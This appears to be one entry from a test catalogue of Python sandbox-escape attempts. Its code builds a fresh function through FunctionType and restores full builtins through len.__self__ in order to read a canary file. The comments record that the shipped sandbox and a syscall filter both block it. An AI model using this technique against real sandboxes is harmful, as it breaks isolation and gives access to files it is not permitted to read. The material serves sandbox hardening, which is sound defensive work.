# Technique   the type of a function makes functions of code
# Mechanism   FunctionType(code, globals)
# As shipped  rejected: unbound, underscore
# Unguarded   blocked: openat

def own():
    return open(CANARY_FILE).read()
maker = type(own)
return maker(own.__code__, {"__builtins__": len.__self__})()
